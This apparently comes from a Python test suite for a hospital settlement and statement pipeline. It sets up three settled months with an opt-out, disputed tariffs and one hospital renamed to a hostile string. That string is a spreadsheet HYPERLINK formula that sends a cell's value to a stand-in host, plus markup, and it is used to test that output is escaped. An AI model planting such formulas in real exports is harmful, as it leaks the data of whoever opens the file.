"""Three months with corrections, an opt-out, a disputed tariff and a hospital with an evil name, settled once; statements of the last."""

from pathlib import Path

import duckdb
import polars as pl
import pytest

from flows.facts import SHIPPED
from flows.home import Home
from flows.month import SettlementMonth
from flows.settle_month import Order, settle_month
from flows.statements.building import build_statements
from flows.statements.gathering import gather
from flows.statements.making import make_statements
from tests.flows.year import Year

MONTH = SettlementMonth(2007, 3)
EVIL = '=HYPERLINK("http://x.example/?"&A1;"Rigshospitalet") <b>&amp;*_#'
"""A hospital's name that is a formula, a tag and markup."""


class SettledMonths:
    """A home with three settled months and the statements of the last."""

    def __init__(self, folder: Path) -> None:
        self.home, self.facts = Home(folder / "home"), change_facts(folder / "facts")
        self.year = Year(folder, 300)
        for number in (1, 2, 3):
            delivery = self.year.deliver(number)
            settle_month(Order(f"2007-{number:02d}", delivery, self.home.folder, self.facts, is_verified=False))
        self.delivery = delivery
        with self.home.held("test"):
            self.made = make_statements(self.home, MONTH, "provisional")

    def query(self, sql):
        with duckdb.connect(str(self.home.marts), read_only=True) as marts:
            return marts.execute(sql).fetchall()

    def paths(self, ending):
        """The files of what is collected; what is settled bilaterally has its own tests."""
        return [path for path in sorted(self.made.folder.glob(f"*.{ending}")) if not path.name.startswith("bilateral-")]


def change_facts(folder: Path) -> Path:
    """The shipped facts, with an opt-out, a disputed tariff and a hospital whose name is a formula."""
    folder.mkdir()
    for path in SHIPPED.glob("*.csv"):
        rows = pl.read_csv(path, infer_schema=False)
        if path.name == "opt_outs.csv":
            values = ["0101", "1084", "2006-10-01", "2007-01-01", None, "assumed", "test", None]
            rows = pl.DataFrame([values], schema=dict.fromkeys(rows.columns, pl.String), orient="row")
        if path.name == "hospitals.csv":
            name = pl.when(pl.col("hospital") == "1301").then(pl.lit(EVIL)).otherwise("name")
            rows = rows.with_columns(name.alias("name"))
        if path.name == "tariffs.csv":
            is_disputed = pl.col("tariff_group").is_in(["GEN2S", "GEN5S"])
            rows = rows.with_columns(pl.when(is_disputed).then(pl.lit("disputed")).otherwise("status").alias("status"))
        rows.write_csv(folder / path.name)
    return folder


@pytest.fixture(scope="session")
def months(tmp_path_factory) -> SettledMonths:
    return SettledMonths(tmp_path_factory.mktemp("statements"))


@pytest.fixture(scope="session")
def gathered(months):
    return gather(months.home, MONTH, "provisional")


@pytest.fixture(scope="session")
def statements(gathered):
    return build_statements(gathered)
